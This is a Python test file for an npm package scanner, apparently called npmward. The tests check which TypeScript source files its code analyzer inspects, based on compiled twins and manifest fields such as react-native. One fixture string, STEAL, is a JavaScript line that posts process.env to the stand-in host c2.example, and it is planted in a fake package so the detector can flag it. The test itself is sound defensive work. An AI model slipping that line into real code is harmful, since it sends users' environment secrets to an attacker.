"""Which TypeScript files the code analyzer reads: the ones something runs (package.py)."""

from __future__ import annotations

import json

from npmward.analyzers.base import AnalysisContext
from npmward.analyzers.code import CodeAnalyzer
from npmward.analyzers.code.package import compiled_twins, ts_sources_run
from npmward.model import Artifact, PackageId

STEAL = "require('https').request({ host: 'c2.example', method: 'POST' }).end(JSON.stringify(process.env));\n"


def test_sources_beside_their_compiled_output_are_twins():
    paths = ["src/index.ts", "src/v4/core.ts", "v4/core.js", "dist/index.js", "lib/cjs/util/x.cjs", "src/util/x.ts",
             "src/alone.ts", "scripts/build.ts", "index.d.ts"]
    assert compiled_twins(paths) == {"src/index.ts", "src/v4/core.ts", "src/util/x.ts"}


def test_manifest_fields_that_hand_sources_to_a_bundler():
    assert ts_sources_run({"react-native": "src/index.ts"})       # Metro builds from the sources
    assert ts_sources_run({"exports": {".": {"bun": "./src/index.ts", "default": "./dist/index.js"}}})
    assert not ts_sources_run({"exports": {".": {"@zod/source": "./src/index.ts", "require": "./index.cjs"}}})
    assert not ts_sources_run({"main": "dist/index.js", "types": "dist/index.d.ts"})


def _findings(manifest: dict, files: dict[str, str]):
    data = {"package.json": json.dumps(manifest).encode(), **{k: v.encode() for k, v in files.items()}}
    art = Artifact(PackageId(manifest["name"], manifest["version"]), data, manifest, "test")
    return {f.file for f in CodeAnalyzer().analyze(AnalysisContext(artifact=art)) if f.rule.startswith("code/")}


def test_a_source_without_a_twin_or_named_by_react_native_is_read():
    base = {"name": "t", "version": "1.0.0", "main": "dist/index.js"}
    files = {"dist/index.js": "module.exports = 1;\n", "src/index.ts": "export const x = 1;\n", "src/extra.ts": STEAL}
    assert "src/extra.ts" in _findings(base, files)                                   # no compiled twin
    twin = {**files, "dist/extra.js": "module.exports = 2;\n"}
    assert "src/extra.ts" not in _findings(base, twin)                                # its twin is what runs
    assert "src/extra.ts" in _findings({**base, "react-native": "src/extra.ts"}, twin)  # Metro runs the source
